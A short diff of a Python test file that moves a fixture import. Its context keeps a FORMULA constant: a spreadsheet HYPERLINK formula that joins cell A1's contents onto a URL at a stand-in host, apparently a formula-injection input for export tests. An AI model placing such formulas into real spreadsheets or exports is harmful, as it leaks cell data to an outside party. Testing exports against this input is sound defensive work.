@@ -9,7 +9,6 @@ import io
 import re
 
 import markdown
-from content_fixtures import BASE_TEXT
 
 from companion_build.content import parse_chapter
 from companion_build.exports.prompts_markdown import write_prompts_markdown
@@ -20,6 +19,7 @@ from companion_build.exports.tables import (
 )
 from companion_build.pages.glossary_links import GlossaryLinker
 from exercises.model import ChapterContent
+from tests.unit.content_fixtures import BASE_TEXT
 
 FORMULA = '=HYPERLINK("https://example.org/?q="&A1,"Click")'
 
